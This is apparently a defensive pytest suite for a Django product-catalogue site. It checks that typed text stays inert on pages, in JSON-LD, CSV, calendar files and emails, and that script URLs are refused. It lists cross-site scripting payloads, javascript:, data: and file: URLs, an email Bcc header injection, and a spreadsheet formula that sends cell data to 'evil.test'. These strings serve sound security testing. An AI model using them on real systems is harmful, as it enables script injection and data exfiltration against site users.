"""Hostile text wherever it is shown: every text users type, with script, attribute and URL payloads.

One world per payload: every typed text of an IKM, a product, a photo, certificates, staff reasons, an inquiry,
a report, an event and an exhibitor application holds ``"<payload> [<field>]"`` (the payload first, so CSV
cells start with it too). Then every place that shows those texts is fetched and checked:

- HTML pages (public, owner, admin): no element or attribute the payload tried to open (no ``<img src=x>``,
  no ``on…=`` attribute, no script that calls ``alert``), no ``href``/``src``/``action`` with a script scheme,
  and every JSON-LD block parses as JSON with no ``</script`` or ``<!--`` inside; and each field expected
  on the page really is there, as text (so the check cannot pass because the text was missing).
- JSON-LD and OpenGraph ``<meta>``: the field's text comes back intact from the parsed JSON or attribute.
- CSV exports: each cell comes back exactly as typed, or with a leading ``'`` when a spreadsheet would
  read it as a formula (= + - @ tab CR).
- Emails: plain text only (no HTML part a mail program would render), one-line subjects.

``PLACES`` is the table of fields × places; its size is in docs/security.md.
"""

import csv
import datetime as dt
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from html.parser import HTMLParser

import icalendar
import pytest
from django.contrib.admin.models import CHANGE, LogEntry
from django.core import mail
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from catalog import services as catalog_services
from catalog.models import Certification, Product
from exhibitions import services as exhibition_services
from exhibitions.forms import EventAdminForm
from exhibitions.models import Award, Event, ExhibitorApplication, ProgrammeItem
from galeri.images import prepare_image
from ikm import services as ikm_services
from ikm.identifiers import normalize_platform_url, normalize_website
from ikm.models import IKM, IKMLink
from inquiries import services as inquiry_services
from inquiries.models import Inquiry
from moderation import services as moderation_services
from moderation.exports import FORMULA_PREFIXES
from moderation.models import Decision, Report
from tests.security.html_forms import form_values, post_data

pytestmark = pytest.mark.django_db

# --- The payloads --------------------------------------------------------------------------------

TEXT_PAYLOADS = {
    "script-close": "</script><script>alert(1)</script>",
    "attribute-breakout": '"><img src=x onerror=alert(1)>',
    "javascript-url": "javascript:alert(1)",
    "single-quote-comment": "'><svg onload=alert(1)><!--",
    "csv-formula": '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "line-break-injection": "x\r\nBcc: korban@evil.test\r\nX-Injected: 1",
}

# Links users type (a website, a marketplace shop link, an event's links): each must be refused at validation.
URL_PAYLOADS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://tokopedia.com/%0Aalert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
]

SCRIPT_SCHEME = re.compile(r"^(javascript|vbscript|data:text/html|data:image/svg)", re.IGNORECASE)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "poster", "data", "xlink:href"}


def tagged(payload: str, tag: str) -> str:
    return f"{payload} [{tag}]"


# --- Reading a page the way a browser would ------------------------------------------------------


class PageAudit(HTMLParser):
    """Elements, attributes, text and JSON-LD of an HTML page, with the problems a payload could cause."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.texts: list[str] = []
        self.jsonld_raw: list[str] = []
        self.jsonld: list[object] = []
        self.meta: dict[str, str] = {}
        self._script: dict[str, str | None] | None = None
        self._script_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> event handler attribute")
            if value is None:
                continue
            self.texts.append(value)
            if name in URL_ATTRIBUTES and SCRIPT_SCHEME.match(re.sub(r"[\x00-\x20]", "", value)):
                self.problems.append(f"<{tag} {name}={value!r}> script URL")
        if tag == "img" and attributes.get("src") == "x":
            self.problems.append("<img src=x> injected")
        if tag == "svg" and "onload" in attributes:
            self.problems.append("<svg onload> injected")
        if tag == "meta" and attributes.get("content") is not None:
            key = attributes.get("property") or attributes.get("name")
            if key:
                self.meta[key] = attributes["content"]
        if tag == "script":
            self._script, self._script_text = attributes, []

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            body = "".join(self._script_text)
            if self._script.get("type") == "application/ld+json":
                self.jsonld_raw.append(body)
                if re.search(r"</script|<!--", body, re.IGNORECASE):
                    self.problems.append("JSON-LD holds </script or <!--")
                try:
                    self.jsonld.append(json.loads(body))
                except json.JSONDecodeError as error:
                    self.problems.append(f"JSON-LD is not valid JSON: {error}")
            elif "alert(" in body:
                self.problems.append("an executable <script> calls alert()")
            self._script = None

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script_text.append(data)
        else:
            self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.texts.append(data)


def audit_html(html: str) -> PageAudit:
    page = PageAudit()
    page.feed(html)
    page.close()
    for raw in ("<script>alert(1)", "<img src=x onerror", "<svg onload"):
        if raw.lower() in html.lower():
            page.problems.append(f"raw {raw!r} in the HTML")
    return page


def jsonld_strings(page: PageAudit) -> str:
    return "\n".join(json.dumps(block, ensure_ascii=False) for block in page.jsonld)


# --- The world -----------------------------------------------------------------------------------


@dataclass
class World:
    payload: str
    values: dict[str, str]
    owner: object
    other_owner: object
    staff: object
    ikm: IKM
    other_ikm: IKM
    product: Product
    changed_product: Product
    certification: Certification
    rejected_certification: Certification
    inquiry: Inquiry
    report: Report
    event: Event
    application: ExhibitorApplication
    rejected_application: ExhibitorApplication
    emails: list[mail.EmailMessage] = field(default_factory=list)

    def client(self, actor: str) -> Client:
        client = Client()
        user = {"owner": self.owner, "other_owner": self.other_owner, "staff": self.staff}.get(actor)
        if user is not None:
            client.force_login(user)
        return client


def _jpeg() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (122, 31, 43)).save(buffer, "JPEG")
    return buffer.getvalue()


def build_world(payload: str, make_user, make_ikm, make_product, capture_on_commit) -> World:
    """Every typed text holds the payload; written through the services where the app writes them."""
    values: dict[str, str] = {}

    def v(tag: str) -> str:
        values[tag] = tagged(payload, tag)
        return values[tag]

    now = timezone.now()
    owner = make_user("pemilik@hostile.test", full_name=v("user.full_name"))
    other_owner = make_user("pemilik-lain@hostile.test")
    staff = make_user("staf@hostile.test", is_staff=True, is_superuser=True)
    ikm = make_ikm(
        owner=owner,
        name=v("ikm.name"),
        slug="ikm-hostile",
        tagline=v("ikm.tagline"),
        story=v("ikm.story"),
        kecamatan=v("ikm.kecamatan"),
        address=v("ikm.address"),
        website="https://contoh.test/",
        verified_at=now,
    )
    IKMLink.objects.create(ikm=ikm, platform="tokopedia", url="https://www.tokopedia.com/hostile")
    other_ikm = make_ikm(owner=other_owner, name=v("other_ikm.name"), slug="ikm-lain", verified_at=now)
    product = make_product(
        ikm,
        name=v("product.name"),
        slug="produk-hostile",
        short_description=v("product.short_description"),
        description=v("product.description"),
        is_featured=True,
    )
    from django.core.files.uploadedfile import SimpleUploadedFile

    catalog_services.photos_add(
        product=product,
        user=owner,
        images=[prepare_image(SimpleUploadedFile("foto.jpg", _jpeg(), content_type="image/jpeg"))],
        alt_text=v("photo.alt_text"),
    )
    certification = Certification.objects.create(
        ikm=ikm,
        type="other",
        number=v("certification.number"),
        issuer=v("certification.issuer"),
        status=Certification.Status.VERIFIED,
        verified_at=now,
    )
    certification.products.set([product])
    changed_product = make_product(ikm, name=v("changed_product.name"), slug="produk-diubah", status="pending")
    rejected_certification = Certification.objects.create(ikm=ikm, type="sni", number=v("rejected_cert.number"))
    # Events are typed by staff, but shown to everyone: the same rules apply.
    starts = now + dt.timedelta(days=30)
    event = Event.objects.create(
        kind=Event.Kind.PAMERAN,
        title=v("event.title"),
        slug="pameran-hostile",
        summary=v("event.summary"),
        description=v("event.description"),
        starts_at=starts,
        ends_at=starts + dt.timedelta(hours=7),
        venue_name=v("event.venue_name"),
        venue_address=v("event.venue_address"),
        region_id="18.71",
        organiser=v("event.organiser"),
        status=Event.Status.PUBLISHED,
        published_at=now,
        applications_open_at=now - dt.timedelta(days=1),
        applications_close_at=now + dt.timedelta(days=7),
    )
    ProgrammeItem.objects.create(event=event, starts_at=starts, title=v("programme.title"), place=v("programme.place"))

    with capture_on_commit(execute=True):
        catalog_services.product_request_changes(product=changed_product, actor=staff, reason=v("product.reason"))
        catalog_services.certification_reject(
            certification=rejected_certification, actor=staff, reason=v("certification.reason")
        )
        application = exhibition_services.application_submit(
            event=event, ikm=ikm, user=owner, products=[product], note=v("application.note")
        )
        exhibition_services.application_accept(application=application, actor=staff)
        rejected_application = exhibition_services.application_submit(
            event=event, ikm=other_ikm, user=other_owner, products=[], note=v("rejected_application.note")
        )
        exhibition_services.application_reject(
            application=rejected_application, actor=staff, reason=v("application.reason")
        )
        Award.objects.create(
            event=event, ikm=ikm, product=product, title=v("award.title"), category=v("award.category")
        )
        ikm_services.ikm_suspend(ikm=other_ikm, actor=staff, reason=v("ikm.suspended_reason"))
        inquiry = inquiry_services.inquiry_submit(
            ikm=ikm,
            product=product,
            name=v("inquiry.name"),
            email="pembeli@hostile.test",
            organization=v("inquiry.organization"),
            buyer_type="business",
            message=v("inquiry.message"),
        )
    # Texts typed into forms that are shown again (search boxes, forms with a mistake).
    for tag in ("search.q", "typed.name", "typed.organization", "typed.message", "typed.details", "typed.email"):
        v(tag)
    for tag in ("typed.story", "typed.address", "typed.description"):
        v(tag)
    LogEntry.objects.log_actions(staff.pk, [product], CHANGE, single_object=True)
    report = moderation_services.report_submit(
        product=product, reason=Report.Reason.OTHER, details=v("report.details"), contact_email="warga@hostile.test"
    )
    for instance in (product, ikm, other_ikm, event, application):
        instance.refresh_from_db()
    return World(
        payload=payload,
        values=values,
        owner=owner,
        other_owner=other_owner,
        staff=staff,
        ikm=ikm,
        other_ikm=other_ikm,
        product=product,
        changed_product=changed_product,
        certification=certification,
        rejected_certification=rejected_certification,
        inquiry=inquiry,
        report=report,
        event=event,
        application=application,
        rejected_application=rejected_application,
        emails=list(mail.outbox),
    )


# --- Where the texts are shown: the table of fields × places -------------------------------------


@dataclass(frozen=True)
class Place:
    """A page (or file) showing typed texts; ``fields`` must come back there as text, intact."""

    name: str
    actor: str  # "anonymous", "owner", "other_owner" or "staff"
    url: Callable[[World], str]
    fields: tuple[str, ...] = ()
    jsonld: tuple[str, ...] = ()  # …in the parsed JSON-LD
    meta: tuple[str, ...] = ()  # …in <meta> contents (OpenGraph, description)
    post: Callable[[World], dict[str, object]] | None = None
    kind: str = "html"  # "html", "csv" or "ics"
    status: int = 200


def _admin(name: str, *args: object) -> str:
    return reverse(f"admin:{name}", args=args)


def _admin_action(action: str, *pks: Callable[[World], int]) -> Callable[[World], dict[str, object]]:
    """The POST of an admin action that asks for a reason first: its intermediate page lists the selection."""
    return lambda w: {"action": action, "_selected_action": [str(pk(w)) for pk in pks]}


IKM_TEXTS = ("ikm.name", "ikm.tagline", "ikm.story", "ikm.kecamatan", "ikm.address")
PRODUCT_TEXTS = ("product.name", "product.short_description", "product.description")
EVENT_TEXTS = (
    "event.title",
    "event.summary",
    "event.description",
    "event.venue_name",
    "event.venue_address",
    "event.organiser",
    "programme.title",
    "programme.place",
    "award.title",
    "award.category",
)
PRODUCT_PAGE = "/produk/produk-hostile/"
IKM_PAGE = "/ikm/ikm-hostile/"
EVENT_PAGE = "/acara/pameran-hostile/"

PLACES: list[Place] = [
    # Public pages, in both languages where the JSON-LD or the text differs.
    Place("home", "anonymous", lambda w: "/", ("ikm.name", "ikm.tagline", "product.name", "photo.alt_text")),
    Place(
        "catalog",
        "anonymous",
        lambda w: "/produk/",
        ("product.name", "ikm.name", "photo.alt_text"),
        jsonld=("product.name",),
    ),
    Place("catalog search", "anonymous", lambda w: "/produk/?" + _q(w), ("search.q",)),
    Place("catalog search (en)", "anonymous", lambda w: "/en/produk/?" + _q(w), ("search.q",)),
    Place(
        "product page",
        "anonymous",
        lambda w: PRODUCT_PAGE,
        (*PRODUCT_TEXTS, "ikm.name", "ikm.tagline", "ikm.kecamatan", "photo.alt_text")
        + ("certification.number", "certification.issuer", "award.title", "award.category", "event.title"),
        jsonld=("product.name", "product.short_description", "ikm.name"),
        meta=("product.name", "product.short_description", "photo.alt_text"),
    ),
    Place(
        "product page (en)",
        "anonymous",
        lambda w: "/en" + PRODUCT_PAGE,
        (*PRODUCT_TEXTS, "ikm.name", "photo.alt_text", "certification.number", "certification.issuer"),
        jsonld=("product.name", "product.short_description", "ikm.name"),
        meta=("product.name", "product.short_description", "photo.alt_text"),
    ),
    Place("directory", "anonymous", lambda w: "/ikm/", ("ikm.name", "ikm.tagline"), jsonld=("ikm.name",)),
    Place("directory search", "anonymous", lambda w: "/ikm/?" + _q(w), ("search.q",)),
    Place(
        "IKM page",
        "anonymous",
        lambda w: IKM_PAGE,
        (*IKM_TEXTS, "product.name", "photo.alt_text", "award.title", "award.category", "event.title"),
        jsonld=("ikm.name", "ikm.tagline", "ikm.kecamatan", "ikm.address"),
        meta=("ikm.name", "ikm.tagline"),
    ),
    Place(
        "IKM page (en)",
        "anonymous",
        lambda w: "/en" + IKM_PAGE,
        IKM_TEXTS,
        jsonld=("ikm.name", "ikm.tagline", "ikm.kecamatan", "ikm.address"),
        meta=("ikm.name", "ikm.tagline"),
    ),
    Place(
        "events",
        "anonymous",
        lambda w: "/acara/",
        ("event.title", "event.summary", "event.venue_name"),
        jsonld=("event.title",),
    ),
    Place(
        "event page",
        "anonymous",
        lambda w: EVENT_PAGE,
        (*EVENT_TEXTS, "ikm.name", "product.name", "photo.alt_text"),
        jsonld=("event.title", "event.summary", "event.venue_name", "event.venue_address", "event.organiser"),
        meta=("event.title", "event.summary"),
    ),
    Place("event calendar file", "anonymous", lambda w: "/acara/pameran-hostile.ics", kind="ics"),
    Place("calendar feed", "anonymous", lambda w: "/acara/kalender.ics", kind="ics"),
    Place("inquiry form", "anonymous", lambda w: "/tanya/produk/produk-hostile/", ("product.name", "ikm.name")),
    Place(
        "inquiry form shown again",
        "anonymous",
        lambda w: "/tanya/produk/produk-hostile/",
        ("typed.name", "typed.organization", "typed.message"),
        post=lambda w: {
            "name": w.values["typed.name"],
            "email": "not an address",
            "organization": w.values["typed.organization"],
            "buyer_type": "individual",
            "message": w.values["typed.message"],
        },
    ),
    Place("report form", "anonymous", lambda w: "/laporkan/produk/produk-hostile/", ("product.name", "ikm.name")),
    Place(
        "report form shown again",
        "anonymous",
        lambda w: "/laporkan/produk/produk-hostile/",
        ("typed.details",),
        post=lambda w: {"reason": "no such reason", "details": w.values["typed.details"]},
        status=400,
    ),
    Place(
        "sign-up form shown again",
        "anonymous",
        lambda w: "/akun/signup/",
        ("typed.email",),
        post=lambda w: {"email": w.values["typed.email"], "password1": "x", "password2": "y"},
    ),
    Place(
        "login form shown again",
        "anonymous",
        lambda w: "/akun/login/?" + _q(w, "next"),
        ("typed.email",),
        post=lambda w: {"login": w.values["typed.email"], "password": "salah"},
    ),
    # The owner's pages.
    Place(
        "dashboard",
        "owner",
        lambda w: "/dasbor/",
        ("ikm.name", "product.name", "changed_product.name", "product.reason", "event.title")
        + ("certification.number", "rejected_cert.number"),
    ),
    Place(
        "suspended owner's dashboard",
        "other_owner",
        lambda w: "/dasbor/",
        ("other_ikm.name", "ikm.suspended_reason", "application.reason", "event.title"),
    ),
    Place("profile form", "owner", lambda w: "/dasbor/profil/", IKM_TEXTS),
    Place(
        "profile form shown again",
        "owner",
        lambda w: "/dasbor/profil/",
        ("typed.name", "typed.story", "typed.address"),
        post=lambda w: _profile_post(w, year_founded="not a year"),
    ),
    Place(
        "my products", "owner", lambda w: "/dasbor/produk/", ("product.name", "changed_product.name", "product.reason")
    ),
    Place("product form", "owner", lambda w: f"/dasbor/produk/{w.product.pk}/ubah/", PRODUCT_TEXTS),
    Place(
        "product form with staff's reason",
        "owner",
        lambda w: f"/dasbor/produk/{w.changed_product.pk}/ubah/",
        ("changed_product.name", "product.reason"),
    ),
    Place(
        "product form shown again",
        "owner",
        lambda w: "/dasbor/produk/baru/",
        ("typed.name", "typed.description"),
        post=lambda w: {
            "name": w.values["typed.name"],
            "description": w.values["typed.description"],
            "price_kind": "fixed",
            "price_min": "-5",
        },
    ),
    Place("photos", "owner", lambda w: f"/dasbor/produk/{w.product.pk}/foto/", ("photo.alt_text", "product.name")),
    Place(
        "my certificates",
        "owner",
        lambda w: "/dasbor/sertifikat/",
        ("certification.number", "certification.issuer", "certification.reason", "rejected_cert.number"),
    ),
    Place(
        "certificate form",
        "owner",
        lambda w: f"/dasbor/sertifikat/{w.rejected_certification.pk}/ubah/",
        ("rejected_cert.number", "certification.reason", "product.name"),
    ),
    Place(
        "inbox",
        "owner",
        lambda w: "/dasbor/pertanyaan/",
        ("inquiry.name", "inquiry.organization", "inquiry.message"),
    ),
    Place(
        "inquiry in the inbox",
        "owner",
        lambda w: f"/dasbor/pertanyaan/{w.inquiry.pk}/",
        ("inquiry.name", "inquiry.organization", "inquiry.message", "product.name"),
    ),
    Place("event page (rejected owner)", "other_owner", lambda w: EVENT_PAGE, ("application.reason", "other_ikm.name")),
    # The Django admin: changelists, change forms, the reason pages of actions, statistics.
    Place("admin index", "staff", lambda w: _admin("index"), ("product.name",)),
    Place("admin IKM list", "staff", lambda w: _admin("ikm_ikm_changelist"), ("ikm.name", "other_ikm.name")),
    Place("admin IKM", "staff", lambda w: _admin("ikm_ikm_change", w.ikm.pk), IKM_TEXTS),
    Place(
        "admin suspended IKM",
        "staff",
        lambda w: _admin("ikm_ikm_change", w.other_ikm.pk),
        ("other_ikm.name", "ikm.suspended_reason"),
    ),
    Place(
        "admin IKM action page",
        "staff",
        lambda w: _admin("ikm_ikm_changelist"),
        ("ikm.name",),
        post=_admin_action("suspend", lambda w: w.ikm.pk),
    ),
    Place(
        "admin product list",
        "staff",
        lambda w: _admin("catalog_product_changelist"),
        ("product.name", "changed_product.name", "ikm.name", "photo.alt_text"),
    ),
    Place(
        "admin product",
        "staff",
        lambda w: _admin("catalog_product_change", w.product.pk),
        (*PRODUCT_TEXTS, "ikm.name", "photo.alt_text", "certification.number"),
    ),
    Place(
        "admin product with history",
        "staff",
        lambda w: _admin("catalog_product_change", w.changed_product.pk),
        ("changed_product.name", "product.reason"),
    ),
    Place(
        "admin product action page",
        "staff",
        lambda w: _admin("catalog_product_changelist"),
        ("product.name",),
        post=_admin_action("request_changes", lambda w: w.product.pk),
    ),
    Place(
        "admin certificate list",
        "staff",
        lambda w: _admin("catalog_certification_changelist"),
        ("certification.number", "rejected_cert.number", "ikm.name"),
    ),
    Place(
        "admin certificate",
        "staff",
        lambda w: _admin("catalog_certification_change", w.certification.pk),
        ("certification.number", "certification.issuer", "product.name"),
    ),
    Place(
        "admin rejected certificate",
        "staff",
        lambda w: _admin("catalog_certification_change", w.rejected_certification.pk),
        ("rejected_cert.number", "certification.reason"),
    ),
    Place(
        "admin report list",
        "staff",
        lambda w: _admin("moderation_report_changelist"),
        ("report.details", "product.name"),
    ),
    Place("admin report", "staff", lambda w: _admin("moderation_report_change", w.report.pk), ("report.details",)),
    Place(
        "admin report action page",
        "staff",
        lambda w: _admin("moderation_report_changelist"),
        ("product.name",),
        post=_admin_action("resolve_reports", lambda w: w.report.pk),
    ),
    Place(
        "admin inquiry list",
        "staff",
        lambda w: _admin("inquiries_inquiry_changelist"),
        ("inquiry.name", "inquiry.organization", "product.name"),
    ),
    Place(
        "admin inquiry",
        "staff",
        lambda w: _admin("inquiries_inquiry_change", w.inquiry.pk),
        ("inquiry.name", "inquiry.organization", "inquiry.message"),
    ),
    Place(
        "admin application list",
        "staff",
        lambda w: _admin("exhibitions_exhibitorapplication_changelist"),
        ("event.title", "ikm.name", "other_ikm.name"),
    ),
    Place(
        "admin application",
        "staff",
        lambda w: _admin("exhibitions_exhibitorapplication_change", w.application.pk),
        ("application.note", "product.name"),
    ),
    Place(
        "admin rejected application",
        "staff",
        lambda w: _admin("exhibitions_exhibitorapplication_change", w.rejected_application.pk),
        ("rejected_application.note", "application.reason"),
    ),
    Place(
        "admin application action page",
        "staff",
        lambda w: _admin("exhibitions_exhibitorapplication_changelist"),
        ("ikm.name",),
        post=_admin_action("reject_applications", lambda w: w.application.pk),
    ),
    Place("admin event", "staff", lambda w: _admin("exhibitions_event_change", w.event.pk), EVENT_TEXTS),
    Place(
        "admin decision log",
        "staff",
        lambda w: _admin("moderation_decision_changelist"),
        ("product.reason", "certification.reason", "application.reason", "ikm.suspended_reason"),
    ),
    Place(
        "admin decision",
        "staff",
        lambda w: _admin("moderation_decision_change", Decision.objects.get(reason=w.values["product.reason"]).pk),
        ("product.reason",),
    ),
    Place("admin users", "staff", lambda w: _admin("accounts_user_changelist"), ("user.full_name",)),
    Place("admin user", "staff", lambda w: _admin("accounts_user_change", w.owner.pk), ("user.full_name",)),
    Place("admin statistics", "staff", lambda w: _admin("moderation-statistics"), ("ikm.name", "product.name")),
    # Exports for staff.
    Place(
        "products CSV",
        "staff",
        lambda w: _admin("moderation-export-products"),
        ("product.name", "changed_product.name", "ikm.name", "certification.number"),
        kind="csv",
    ),
    Place(
        "IKM CSV",
        "staff",
        lambda w: _admin("moderation-export-ikm"),
        ("ikm.name", "other_ikm.name", "ikm.kecamatan", "ikm.address", "certification.number"),
        kind="csv",
    ),
]

# Emails: (recipient, a field that picks the mail out, fields in its subject, fields in its body).
EMAILS = [
    ("pemilik@hostile.test", "product.reason", ("changed_product.name",), ("product.reason", "ikm.name")),
    ("pemilik@hostile.test", "certification.reason", (), ("certification.reason", "rejected_cert.number")),
    ("pemilik@hostile.test", "event.venue_name", ("event.title",), ("event.venue_address", "ikm.name")),
    ("pemilik-lain@hostile.test", "application.reason", ("event.title",), ("other_ikm.name",)),
    ("pemilik-lain@hostile.test", "ikm.suspended_reason", ("other_ikm.name",), ()),
    (
        "pemilik@hostile.test",
        "inquiry.message",
        ("inquiry.name", "product.name"),
        ("inquiry.organization", "ikm.name"),
    ),
    ("pembeli@hostile.test", "product.name", ("ikm.name",), ("inquiry.name",)),
]


def _q(w: World, name: str = "q") -> str:
    from urllib.parse import urlencode

    return urlencode({name: w.values["search.q"]})


def _profile_post(w: World, **changes: str) -> dict[str, str]:
    data = {
        "name": w.values["typed.name"],
        "slug": w.ikm.slug,
        "tagline": "",
        "story": w.values["typed.story"],
        "sector": w.ikm.sector,
        "region": w.ikm.region_id,
        "address": w.values["typed.address"],
        "workers_women": "1",
        "workers_men": "1",
        "whatsapp": "0812-3456-7890",
        "links-TOTAL_FORMS": "0",
        "links-INITIAL_FORMS": "0",
        "links-MIN_NUM_FORMS": "0",
        "links-MAX_NUM_FORMS": "9",
    }
    data.update(changes)
    return data


# --- The checks ----------------------------------------------------------------------------------


def norm(text: str) -> str:
    """Whitespace-insensitive, so a text split by <br> or kept in a textarea still counts as the same text."""
    return " ".join(text.split())


def _strings(data: object) -> list[str]:
    if isinstance(data, str):
        return [data]
    if isinstance(data, dict):
        return [s for value in data.values() for s in _strings(value)]
    if isinstance(data, list):
        return [s for value in data for s in _strings(value)]
    return []


def _missing(w: World, tags: tuple[str, ...], haystack: str) -> list[str]:
    haystack = norm(haystack)
    return [tag for tag in tags if norm(w.values[tag]) not in haystack]


def spreadsheet_safe(value: str) -> str:
    """How a typed text must come back in a CSV cell: as typed, or quoted when a spreadsheet would run it."""
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def check_place(w: World, place: Place) -> list[str]:
    """Everything wrong with one place for this world's payload (empty when the place is safe)."""
    client = w.client(place.actor)
    url = place.url(w)
    response = client.post(url, place.post(w)) if place.post else client.get(url)
    problems: list[str] = []
    if response.status_code != place.status:
        return [f"answered {response.status_code}, not {place.status}"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8")
    if place.kind == "csv":
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
        cells = [cell for row in rows for cell in row]
        problems += [f"CSV cell {cell!r} would run as a formula" for cell in cells if cell.startswith(FORMULA_PREFIXES)]
        problems += [
            f"{tag} not in any CSV cell as {spreadsheet_safe(w.values[tag])!r}"
            for tag in place.fields
            if not any(spreadsheet_safe(w.values[tag]) in cell for cell in cells)
        ]
        return problems
    if place.kind == "ics":
        problems += [
            f"calendar line {line!r} was injected"
            for line in text.splitlines()
            if line.upper().startswith(("X-INJECTED", "BCC"))
        ]
        calendar = icalendar.Calendar.from_ical(body)
        events = list(calendar.walk("VEVENT"))
        if len(events) != 1:
            problems.append(f"{len(events)} events in the calendar, not 1")
        for event in events:
            if norm(str(event.get("SUMMARY"))) != norm(w.values["event.title"]):
                problems.append(f"SUMMARY {event.get('SUMMARY')!r} is not the title")
            problems += [f"injected property {name}" for name in event if name.startswith("X-INJECTED")]
        return problems
    assert response["Content-Type"].startswith("text/html"), response["Content-Type"]
    page = audit_html(text)
    problems += page.problems
    problems += [f"{tag} not shown as text" for tag in _missing(w, place.fields, "\n".join(page.texts))]
    jsonld = "\n".join(s for block in page.jsonld for s in _strings(block))
    problems += [f"{tag} not in the JSON-LD" for tag in _missing(w, place.jsonld, jsonld)]
    problems += [f"{tag} not in a <meta> content" for tag in _missing(w, place.meta, "\n".join(page.meta.values()))]
    return problems


def check_emails(w: World) -> list[str]:
    from django.utils.html import escape

    problems = []
    for message in w.emails:
        where = f"mail {message.subject!r} to {message.to}"
        if getattr(message, "alternatives", None):
            problems.append(f"{where} has an HTML part")
        if message.content_subtype != "plain":
            problems.append(f"{where} is {message.content_subtype}, not plain text")
        if "\n" in message.subject or "\r" in message.subject:
            problems.append(f"{where}: the subject has a line break (header injection)")
        for tag, value in w.values.items():
            if escape(value) != value and escape(value) in message.subject + message.body:
                problems.append(f"{where} shows {tag} HTML-escaped in plain text")
        message.message()  # the real MIME message builds (Django refuses a header it cannot write)
    for to, marker, in_subject, in_body in EMAILS:
        found = [m for m in w.emails if m.to == [to] and norm(w.values[marker]) in norm(m.subject + "\n" + m.body)]
        if len(found) != 1:
            problems.append(f"{len(found)} mails to {to} with {marker}, not 1")
            continue
        [message] = found
        problems += [f"{marker} mail: {tag} not in the subject" for tag in _missing(w, in_subject, message.subject)]
        problems += [f"{marker} mail: {tag} not in the body" for tag in _missing(w, in_body, message.body)]
    return problems


@pytest.fixture
def hostile_world(request, make_user, make_ikm, make_product, django_capture_on_commit_callbacks) -> World:
    return build_world(request.param, make_user, make_ikm, make_product, django_capture_on_commit_callbacks)


@pytest.mark.parametrize("hostile_world", list(TEXT_PAYLOADS.values()), ids=list(TEXT_PAYLOADS), indirect=True)
def test_typed_text_stays_text_wherever_it_is_shown(hostile_world: World) -> None:
    problems = {place.name: check_place(hostile_world, place) for place in PLACES}
    problems["emails"] = check_emails(hostile_world)
    problems = {place: found for place, found in problems.items() if found}
    assert not problems, json.dumps(problems, indent=1, ensure_ascii=False)


# --- Links: script URLs are refused when typed, and never followed in a redirect --------------------


@pytest.fixture
def linked_ikm(make_ikm, owner):
    ikm = make_ikm(owner=owner, name="Kopi Sai", slug="kopi-sai", website="https://kopisai.test/")
    IKMLink.objects.create(ikm=ikm, platform="shopee", url="https://shopee.co.id/kopisai")
    return ikm


@pytest.mark.parametrize("url", URL_PAYLOADS)
def test_an_owner_cannot_save_a_script_url_as_website_or_shop_link(owner_client, linked_ikm, url: str) -> None:
    data = form_values(owner_client.get("/dasbor/profil/").content.decode(), css_class="ikm-form")
    data.update({"website": [url], "links-0-url": [url]})

    response = owner_client.post("/dasbor/profil/", post_data(data))

    assert response.status_code == 200, "refused with the form shown again"
    form, links = response.context["form"], response.context["links"]
    assert "website" in form.errors
    assert "url" in links.forms[0].errors
    linked_ikm.refresh_from_db()
    assert linked_ikm.website == "https://kopisai.test/"
    assert list(linked_ikm.links.values_list("url", flat=True)) == ["https://shopee.co.id/kopisai"]
    for normalise in (normalize_website, lambda u: normalize_platform_url("tokopedia", u)):
        with pytest.raises(ValidationError):
            normalise(url)
    # The same form with web addresses saves: the script URL was the only problem.
    data.update({"website": ["https://baru.test/"], "links-0-url": ["https://shopee.co.id/baru"]})
    assert owner_client.post("/dasbor/profil/", post_data(data)).status_code == 302
    linked_ikm.refresh_from_db()
    assert linked_ikm.website == "https://baru.test/"


@pytest.mark.parametrize("url", URL_PAYLOADS)
def test_staff_cannot_save_a_script_url_in_the_admin(client, staff_user, linked_ikm, url: str) -> None:
    client.force_login(staff_user)
    change = _admin("ikm_ikm_change", linked_ikm.pk)
    data = form_values(client.get(change).content.decode(), form_id="ikm_form")
    data.update({"website": [url], "links-0-url": [url], "_save": ["Save"]})

    response = client.post(change, post_data(data))

    assert response.status_code == 200, "refused with the form shown again"
    assert "website" in response.context["adminform"].form.errors
    [links] = list(response.context["inline_admin_formsets"])
    assert "url" in links.formset.forms[0].errors
    linked_ikm.refresh_from_db()
    assert linked_ikm.website == "https://kopisai.test/"
    assert list(linked_ikm.links.values_list("url", flat=True)) == ["https://shopee.co.id/kopisai"]
    data.update({"website": ["https://baru.test/"], "links-0-url": ["https://shopee.co.id/baru"]})
    assert client.post(change, post_data(data)).status_code == 302


@pytest.mark.parametrize("url", URL_PAYLOADS)
def test_an_event_link_cannot_be_a_script_url(url: str) -> None:
    starts = timezone.now() + dt.timedelta(days=10)
    data = {
        "kind": "pameran",
        "title": "Pameran Daring",
        "slug": "pameran-daring",
        "starts_at": starts.strftime("%Y-%m-%d %H:%M"),
        "ends_at": (starts + dt.timedelta(hours=3)).strftime("%Y-%m-%d %H:%M"),
        "attendance_mode": "online",
        "online_url": url,
        "organiser": "Disperindag Provinsi Lampung",
        "organiser_url": url,
    }

    form = EventAdminForm(data=data)

    assert not form.is_valid()
    assert set(form.errors) >= {"online_url", "organiser_url"}
